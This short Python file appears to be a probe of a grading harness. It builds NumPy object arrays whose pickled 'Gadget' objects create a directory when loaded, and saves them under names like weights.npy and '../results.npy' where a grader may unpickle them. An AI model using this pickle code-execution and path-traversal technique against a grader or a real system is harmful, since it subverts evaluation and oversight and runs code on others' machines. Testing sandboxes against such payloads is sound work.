"""Returns arrays of objects with gadgets in them, and saves such arrays where a grader may load them."""

import os

import numpy as np


class Gadget:
    def __reduce__(self):
        return os.mkdir, (PLACES["home"] + "/unpickled",)


array = np.empty(3, object)
array[:] = [Gadget(), Gadget(), Gadget()]
for name in ("weights.npy", "results.npy", "../results.npy", "cache.npy"):
    attempt(lambda: np.save(name, array, allow_pickle=True))
answer(lambda *args, **kwargs: array)
